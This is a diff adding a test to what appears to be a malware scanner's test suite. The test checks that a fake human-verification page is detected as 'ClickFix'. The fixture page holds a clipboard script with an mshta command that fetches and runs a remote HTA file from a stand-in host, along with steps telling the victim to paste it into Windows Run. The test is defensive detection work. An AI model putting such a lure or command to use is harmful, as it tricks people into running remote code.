@@ -396,3 +396,15 @@ async def test_links_of_pdfs_inside_archives_are_left_for_the_url_stage():
     pdf = files.pdf_with_link(b"https://www.example.org/products")
     await scan(files.mail([("docs.zip", files.zip_bytes({"brochure.pdf": pdf}))]), context=context)
     assert context.notes["attachment_urls"] == ["https://www.example.org/products"]
+
+
+async def test_a_fake_human_check_that_puts_a_command_on_the_clipboard_is_clickfix():
+    page = (b"<html><body><p>Verify you are human.</p><ol><li>Press Windows Button + R</li><li>Press CTRL + V</li>"
+            b"<li>Press Enter</li></ol><script>function v(){navigator.clipboard.writeText('mshta https://cdn-verify."
+            b"example.net/captcha.hta # I am not a robot');}</script></body></html>")
+    copy_button = b"<html><script>navigator.clipboard.writeText('INV-2025-0042');</script><p>Copy the reference</p></html>"
+    result = await scan_files(("Claim_Docs.html", page))
+    harmless = await scan_files(("reference.html", copy_button))
+
+    assert "HTML_CLICKFIX" in names(result) and result.verdict.value == "malware"
+    assert "HTML_CLICKFIX" not in names(harmless)
